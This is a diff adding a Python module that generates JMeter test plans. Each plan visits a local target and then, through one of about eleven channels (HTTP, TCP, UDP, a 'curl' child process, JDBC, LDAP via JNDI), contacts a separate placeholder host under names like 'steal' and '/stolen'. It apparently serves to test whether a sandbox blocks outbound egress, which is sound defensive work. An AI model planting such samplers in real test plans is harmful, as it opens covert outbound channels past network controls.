@@ -1,0 +1,106 @@
+"""Plans of JMeter with one sampler that reaches for a host of its own."""
+
+from __future__ import annotations
+
+from typing import Final
+from xml.sax.saxutils import escape
+
+
+def _sampler(kind: str, gui: str, **properties: str | bool) -> str:
+    texts = (
+        f'<boolProp name="{name}">{str(value).lower()}</boolProp>'
+        if isinstance(value, bool)
+        else f'<stringProp name="{name}">{escape(value)}</stringProp>'
+        for name, value in properties.items()
+    )
+    return (
+        f'<{kind} guiclass="{gui}" testclass="{kind}" testname="steal">{"".join(texts)}</{kind}><hashTree/>'
+    )
+
+
+def _http(implementation: str) -> str:
+    return _sampler("HTTPSamplerProxy", "HttpTestSampleGui", **{
+        "HTTPSampler.domain": "{host}", "HTTPSampler.port": "{port}", "HTTPSampler.path": "/stolen",
+        "HTTPSampler.method": "GET", "HTTPSampler.implementation": implementation,
+        "HTTPSampler.connect_timeout": "2000", "HTTPSampler.response_timeout": "2000",
+    })  # fmt: skip
+
+
+def _script(text: str) -> str:
+    return _sampler("JSR223Sampler", "TestBeanGUI", scriptLanguage="groovy", cacheKey="true", script=text)
+
+
+SAMPLERS: Final = {
+    "HttpClient4": _http("HttpClient4"),
+    "Java's HTTP client": _http("Java"),
+    "TCP sampler": _sampler("TCPSampler", "TCPSamplerGui", **{
+        "TCPSampler.server": "{host}", "TCPSampler.port": "{port}", "TCPSampler.request": "x",
+        "TCPSampler.timeout": "2000", "TCPSampler.ctimeout": "2000",
+    }),
+    "a child process": _script("['curl', '-s', '-m', '3', '{url}'].execute().waitFor()"),
+    "Socket of a script": _script("new Socket('{host}', {port}).close()"),
+    "DatagramSocket of a script": _script(
+        "new DatagramSocket().send(new DatagramPacket('x'.bytes, 1, InetAddress.getByName('{host}'), {port}))"
+    ),
+    "DatagramChannel of a script": _script(
+        "java.nio.channels.DatagramChannel.open().send(java.nio.ByteBuffer.wrap('x'.bytes), "
+        "new InetSocketAddress('{host}', {port}))"
+    ),
+    "HTTP/2 client of Java": _script(
+        "java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder("
+        "URI.create('{url}')).build(), java.net.http.HttpResponse.BodyHandlers.discarding())"
+    ),
+    "asynchronous channel": _script(
+        "java.nio.channels.AsynchronousSocketChannel.open().connect("
+        "new InetSocketAddress('{host}', {port})).get()"
+    ),
+    "JDBC": _script(
+        "groovy.sql.Sql.newInstance('jdbc:postgresql://{host}:{port}/x?connectTimeout=2&loginTimeout=2', "
+        "'u', 'p', 'org.postgresql.Driver')"
+    ),
+    "LDAP by JNDI": _script(
+        "new javax.naming.directory.InitialDirContext(new Hashtable(["
+        "'java.naming.factory.initial': 'com.sun.jndi.ldap.LdapCtxFactory', "
+        "'java.naming.provider.url': 'ldap://{host}:{port}']))"
+    ),
+}  # fmt: skip
+"""XML by name; {host}, {port} and {url} are filled in."""
+
+_PLAN: Final = """<?xml version="1.0" encoding="UTF-8"?>
+<jmeterTestPlan version="1.2" properties="5.0">
+<hashTree>
+  <TestPlan guiclass="TestPlanGui" testclass="TestPlan" testname="thief"/>
+  <hashTree>
+    <ThreadGroup guiclass="ThreadGroupGui" testclass="ThreadGroup" testname="Users">
+      <stringProp name="ThreadGroup.num_threads">1</stringProp>
+      <stringProp name="ThreadGroup.ramp_time">0</stringProp>
+      <stringProp name="ThreadGroup.on_sample_error">continue</stringProp>
+      <boolProp name="ThreadGroup.scheduler">true</boolProp>
+      <stringProp name="ThreadGroup.duration">5</stringProp>
+      <elementProp name="ThreadGroup.main_controller" elementType="LoopController">
+        <stringProp name="LoopController.loops">-1</stringProp>
+      </elementProp>
+    </ThreadGroup>
+    <hashTree>
+      <ConstantTimer guiclass="ConstantTimerGui" testclass="ConstantTimer" testname="think">
+        <stringProp name="ConstantTimer.delay">200</stringProp>
+      </ConstantTimer>
+      <hashTree/>
+      <HTTPSamplerProxy guiclass="HttpTestSampleGui" testclass="HTTPSamplerProxy" testname="visit">
+        <stringProp name="HTTPSampler.domain">${__P(host,127.0.0.1)}</stringProp>
+        <stringProp name="HTTPSampler.port">${__P(port,8000)}</stringProp>
+        <stringProp name="HTTPSampler.path">/loans</stringProp>
+        <stringProp name="HTTPSampler.method">GET</stringProp>
+      </HTTPSamplerProxy>
+      <hashTree/>
+      {sampler}
+    </hashTree>
+  </hashTree>
+</hashTree>
+</jmeterTestPlan>
+"""
+
+
+def plan_with(name: str) -> str:
+    """A plan that visits the target, and then reaches for the other host."""
+    return _PLAN.replace("{sampler}", SAMPLERS[name])
